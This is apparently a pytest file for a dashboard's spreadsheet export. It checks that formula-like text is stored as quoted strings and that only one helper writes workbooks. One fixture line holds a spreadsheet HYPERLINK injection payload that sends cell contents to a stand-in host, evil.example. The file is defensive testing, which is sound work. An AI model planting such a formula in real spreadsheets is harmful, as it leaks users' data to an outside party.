"""Exports cannot carry live formulas: text that a spreadsheet would run is written as text."""

from __future__ import annotations

import io
import re

import openpyxl
import pandas as pd

from dashboard.components import FORMULA_PREFIXES, excel_bytes
from geo.settings import PROJECT_ROOT

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&T1&U1,"点击查看详情")'


def test_formula_like_text_is_exported_as_text_and_numbers_stay_numbers() -> None:
    texts = [HYPERLINK, "+86 138", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1", "解放街12号", "a=b"]
    frame = pd.DataFrame({"案情描述": texts, "数量": [-5, 3, -1.5, 0, 1, 2, 7, 8]})
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes({"案件": frame})))
    sheet = book["案件"]
    for row, expected in enumerate(texts, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s", (expected, cell.data_type)  # a string, not "f" (formula)
        assert cell.value == expected  # the text itself is kept
        if expected.startswith(FORMULA_PREFIXES):
            assert cell.quotePrefix  # marked as typed text, as Excel does for '=…
    numbers = [sheet.cell(row=row, column=2) for row in range(2, 2 + len(texts))]
    assert [c.value for c in numbers] == [-5, 3, -1.5, 0, 1, 2, 7, 8]
    assert all(c.data_type == "n" for c in numbers)


def test_every_workbook_is_written_by_the_one_helper() -> None:
    """No module other than dashboard/components.py writes a workbook for users (the helper neutralises formulas)."""
    writers = re.compile(r"\.to_excel\(|ExcelWriter\(|openpyxl\.Workbook\(|xlsxwriter")
    offenders = [
        str(path.relative_to(PROJECT_ROOT))
        for folder in ("dashboard", "layers", "etl", "geo")
        for path in (PROJECT_ROOT / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8")) and path != PROJECT_ROOT / "dashboard" / "components.py"
    ]
    assert offenders == []
